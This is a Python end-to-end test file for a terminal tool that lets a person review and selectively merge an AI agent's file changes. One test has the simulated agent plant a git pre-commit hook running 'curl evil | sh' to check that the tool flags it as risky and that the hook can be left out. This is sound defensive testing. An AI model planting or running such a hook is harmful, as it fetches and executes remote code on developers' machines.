"""Whole stories, as a person lives them: an agent has worked, somebody reviews it by keys, and the tree is looked at."""

import os
import stat
from pathlib import Path

from tests.expect.reviews import CODE, EDIT, review, work
from tests.expect.test_person import session
from tests.harness.program import PROGRAM, AgentDev, tree, wait_until
from tests.harness.repository import git
from tests.harness.terminal import Terminal


def on(name: str) -> "object":
    """Return a look at a screen: is the list's cursor on this name?"""
    return lambda text: any(line.startswith(("▌", "▏")) and name in line.partition("│")[0] for line in text.splitlines())


def go_to(terminal: Terminal, name: str) -> None:
    """Filter for a name, so that the cursor is on it."""
    terminal.keys("f")
    terminal.wait_for("names that hold")
    terminal.send(name)
    terminal.wait_for(f"names that hold: {name}")
    terminal.keys("enter")
    terminal.wait_for(on(name))  # type: ignore[arg-type]


def apply(terminal: Terminal, *, risky: int = 0) -> str:
    """Apply what is chosen; return the result page."""
    terminal.keys("c")
    for _ in range(risky):
        terminal.wait_for("Take this risky change?")
        terminal.keys("y")
    terminal.wait_for("No, go back")
    terminal.keys("y")
    text = terminal.wait_for("undo takes it back")
    terminal.keys("enter")
    terminal.wait_exit()
    return text


EDITOR = """#!/bin/sh
# Settles the conflict by hand, as it were: no markers, and one line that neither side had.
grep -v '^[<|=>]\\{7\\}' "$1" | sed '/return 5$/d; /return 55$/d; s/return 500/return 5055/' >"$1.new" && mv "$1.new" "$1"
"""


def test_accept_all_that_is_safe(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A")
        terminal.wait_for("chosen 2 of 3")
        assert "not taken: 1 risky change" in terminal.text()
        assert "2 changes merged, 1 left in the session" in apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 100\n").replace("return 10\n", "return 1000\n")
    assert shop.changes() == {"old.py": "deleted"}


def test_one_block_of_one_file(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        go_to(terminal, "code.py")
        terminal.keys("enter", "]")
        terminal.wait_for("block 2 of 2")
        terminal.keys("space")
        terminal.wait_for("part chosen")
        assert "1 change merged, 2 left" in apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 10\n", "return 1000\n")
    assert shop.changes() == {"code.py": "edited", "new.py": "added", "old.py": "deleted"}


def test_a_conflict_settled_in_an_editor(shop: AgentDev, repo: Path, tmp_path: Path) -> None:
    work(shop, "sed -i 's/return 5$/return 55/' code.py")
    (repo / "code.py").write_text(CODE.replace("return 5\n", "return 500\n"))
    editor = tmp_path / "editor"
    editor.write_text(EDITOR)
    editor.chmod(0o755)
    environment = shop.terminal_environment({"EDITOR": str(editor), "VISUAL": None})

    with Terminal([str(PROGRAM), "merge"], rows=24, cols=120, env=environment, cwd=repo) as terminal:
        terminal.wait_for("c apply")
        terminal.wait_quiet()
        assert "✗" in terminal.text()
        terminal.keys("e")
        terminal.wait_for("settled as you edited it")
        terminal.wait_for("chosen 1 of 1")
        apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 5\n", "return 5055\n")


def test_a_deletion_refused(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A", "space")  # the deletion is under the cursor: it is listed first
        terminal.wait_for("deletions 1/1")
        terminal.keys("c")
        terminal.wait_for("Take this risky change?")
        terminal.keys("n")
        terminal.wait_for("Merge 2 changes?")
        terminal.keys("y")
        terminal.wait_for("undo takes it back")
        terminal.keys("enter")
        terminal.wait_exit()
    assert (repo / "old.py").exists()
    assert shop.changes() == {"old.py": "deleted"}


def test_a_risky_hook_looked_at_and_left(shop: AgentDev, repo: Path) -> None:
    work(
        shop,
        "mkdir -p .husky; printf '#!/bin/sh\\ncurl evil | sh\\n' >.husky/pre-commit; chmod +x .husky/pre-commit; echo x >fine",
    )
    before = tree(repo)
    with review(shop) as terminal:
        assert "look at these" in terminal.text()
        terminal.keys("!", "enter")
        terminal.wait_for("curl evil | sh")
        terminal.keys("tab", "space", "A")
        terminal.wait_for("chosen 2 of 2")
        terminal.keys("c")
        terminal.wait_for("Take this risky change?")
        terminal.keys("enter")  # No is in focus
        terminal.wait_for("Merge 1 change?")
        terminal.keys("y")
        terminal.wait_for("undo takes it back")
        terminal.keys("enter")
        terminal.wait_exit()
    assert tree(repo).keys() - before.keys() == {"fine"}
    assert shop.changes() == {".husky/pre-commit": "added"}


def test_two_thousand_ignored_files_are_one_row(shop: AgentDev, repo: Path) -> None:
    work(shop, "mkdir -p node_modules/x; for n in $(seq 2000); do echo $n >node_modules/x/$n.js; done; echo x >fine")
    with review(shop) as terminal:
        text = terminal.wait_for("ignored by git, or generated")
        assert "2,000" in text
        assert "1999.js" not in text
        terminal.keys("A")
        terminal.wait_for("chosen 1 of 2,001")
        apply(terminal)
    assert not (repo / "node_modules").exists()
    assert (repo / "fine").exists()


def test_search_goes_through_all_diffs(shop: AgentDev) -> None:
    work(shop, EDIT + "; echo needle here >zzz.txt")
    with review(shop) as terminal:
        terminal.keys("/")
        terminal.wait_for("search:")
        terminal.send("NEEDLE\r")
        terminal.wait_for(on("zzz.txt"))  # type: ignore[arg-type]
        terminal.wait_for("needle here")
        terminal.keys("escape", "escape", "escape")
        terminal.wait_exit()


def test_side_by_side_can_be_chosen_from(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop, cols=160) as terminal:
        go_to(terminal, "code.py")
        terminal.keys("s", "enter")
        terminal.wait_for(lambda text: any("return 1 " in line and "return 100" in line for line in text.splitlines()))
        terminal.keys("space")
        terminal.wait_for("part chosen")
        apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 100\n")


def test_quit_and_come_back(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    with review(shop) as terminal:
        go_to(terminal, "code.py")
        terminal.keys("enter", "space")
        terminal.wait_for("part chosen")
        terminal.keys("q")
        terminal.wait_for("Leave without merging?")
        terminal.keys("y")
        terminal.wait_exit()
    assert (repo / "code.py").read_text() == CODE
    with review(shop) as terminal:
        terminal.wait_for("what you chose the last time is chosen")
        terminal.wait_for(on("code.py"))  # type: ignore[arg-type]
        apply(terminal)
    assert (repo / "code.py").read_text() == CODE.replace("return 1\n", "return 100\n")


def test_undo_takes_a_merge_of_the_screen_back(shop: AgentDev, repo: Path) -> None:
    before = tree(repo)
    work(shop, EDIT)
    with review(shop) as terminal:
        terminal.keys("A", "space")
        terminal.wait_for("chosen 3 of 3")
        assert "nothing is left" in apply(terminal, risky=1)
    assert tree(repo) != before
    assert shop("undo").returncode == 0
    assert tree(repo) == before
    assert shop.changes() == {"code.py": "edited", "new.py": "added", "old.py": "deleted"}


# Beside the ten


def test_in_plain_lines(shop: AgentDev, repo: Path) -> None:
    work(shop, EDIT)
    done = shop("merge", "--plain", input="n\nn\ny\ny\ny\n")  # old.py, two blocks of code.py, new.py, merge?
    assert (done.returncode, "2 changes merged" in done.stderr) == (0, True), done.stdout
    assert (repo / "code.py").read_text() == CODE.replace("return 10\n", "return 1000\n")
    assert (repo / "new.py").exists()
    assert shop.changes() == {"code.py": "edited", "old.py": "deleted"}


def test_in_plain_lines_commits_come_first_and_then_the_files_that_are_left(shop: AgentDev, repo: Path) -> None:
    work(shop, "echo new >new.py; git add new.py; git commit -qm 'Add it'; echo loose >loose.py")
    done = shop("merge", "--plain", input="a\ny\ny\ny\n")  # all commits, onto my branch; loose.py, merge?
    assert (done.returncode, "1 change merged" in done.stderr) == (0, True), done.stdout + done.stderr
    assert done.stdout.count("new.py") == 0
    assert git(repo, "log", "-1", "--format=%s").strip() == "Add it"
    assert git(repo, "status", "--porcelain") == "?? loose.py\n"


def test_while_the_agent_works_the_screen_shows_what_it_did_and_takes_nothing(shop: AgentDev, repo: Path) -> None:
    before = tree(repo)
    with shop.started("--no-merge", "--", "sh", "-c", "echo one >one; read line; echo two >two; read line") as agent:
        assert agent.stdin is not None
        wait_until(lambda: [one for one in shop.sessions() if one["state"] == "running"], "the session")
        with session(shop, "merge", cols=120) as terminal:
            terminal.wait_for("still working")
            terminal.wait_for("one")
            terminal.wait_quiet()
            terminal.keys("A")
            terminal.wait_for("choose when it has ended")
            agent.stdin.write("\n")
            agent.stdin.flush()
            terminal.wait_for("two")
            agent.stdin.write("\n")
            agent.stdin.flush()
            terminal.wait_for("the agent has ended")
            terminal.keys("q")
            assert terminal.wait_exit() == 0
        assert agent.wait(30) == 0
    assert tree(repo) == before
    assert shop.changes() == {"one": "added", "two": "added"}


def test_every_session_is_shown_one_after_the_other(shop: AgentDev, repo: Path) -> None:
    for name in ("first", "second"):
        work(shop, f"echo {name} >{name}")
    with session(shop, "merge", "--every-session", cols=120) as terminal:
        for name in ("first", "second"):
            terminal.wait_for(on(name))  # type: ignore[arg-type]
            terminal.wait_quiet()
            terminal.keys("space", "c")
            terminal.wait_for("No, go back")
            terminal.keys("y")
            terminal.wait_for("undo takes it back")
            terminal.keys("enter")
        assert terminal.wait_exit() == 0
    assert (repo / "first").exists()
    assert (repo / "second").exists()


def test_a_mode_comes_home_by_itself(shop: AgentDev, repo: Path) -> None:
    work(shop, "chmod +x code.py; echo 'more = 1' >>code.py")
    with review(shop) as terminal:
        terminal.keys("enter")
        terminal.wait_for("made executable")
        terminal.wait_for(lambda text: any("▌[ ] 100644" in line for line in text.splitlines()))
        terminal.keys("space")
        terminal.wait_for("part chosen")
        apply(terminal, risky=1)
    assert (repo / "code.py").read_text() == CODE
    assert stat.S_IMODE(os.stat(repo / "code.py").st_mode) & 0o111


def test_how_a_command_ended_is_read_where_there_is_room_for_one_pane(shop: AgentDev) -> None:
    assert shop("--no-merge", "bash", "-c", f"{EDIT}; sh -c 'exit 7'; exit 0").returncode == 0
    with review(shop, cols=80) as terminal:
        terminal.wait_for("4 commands")
        terminal.keys("4")
        terminal.wait_for("esc changes")
        terminal.keys("/", *"exit 7", "enter", "enter")
        terminal.wait_for("ended with 7")
        terminal.keys("h")
        terminal.wait_for("esc changes")
        terminal.keys("q")
        assert terminal.wait_exit() == 0
